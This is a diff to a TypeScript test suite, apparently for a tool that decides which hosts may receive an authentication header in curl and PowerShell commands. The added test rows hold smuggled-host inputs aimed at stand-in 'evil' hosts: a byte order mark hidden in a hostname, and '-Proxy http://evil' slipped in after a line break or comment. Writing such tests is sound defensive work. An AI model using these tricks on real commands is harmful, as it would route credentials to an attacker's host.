@@ -909,6 +909,13 @@ describe('who may get the header', () => {
         /^unknown/,
       ],
       [
+        'a host with a byte order mark, which is no blank for PowerShell',
+        powershellFormat,
+        `irm ${acme.origin}\ufeff.evil.example/x\n`,
+        /^stray 0: https:.*evil/,
+        /^stray/,
+      ],
+      [
         'another URL after a blank of Unicode',
         powershellFormat,
         `curl.exe -o x\u0085${evil} ${url}\n`,
@@ -924,6 +931,8 @@ describe('who may get the header', () => {
         ['parameters', powershellFormat, `irm ${url} -FollowRelLink`],
         ['parameters', powershellFormat, `irm ${url} -P http://evil`],
         ['parameters', powershellFormat, `irm -Body a, ${url} ${evil}`],
+        ['parameters', powershellFormat, `irm ${url} -Body 'a',\n  'b' -Proxy http://evil`],
+        ['parameters', powershellFormat, `irm ${url} -Body a, # b\n\n  'b' -Proxy http://evil`],
         ['words after --', posixFormat, `curl -- ${url} -A ${evil}`],
         ['words after --', posixFormat, `curl -- ${url} --next ${evil}`],
       ].map(([what, format, command]): Row => [
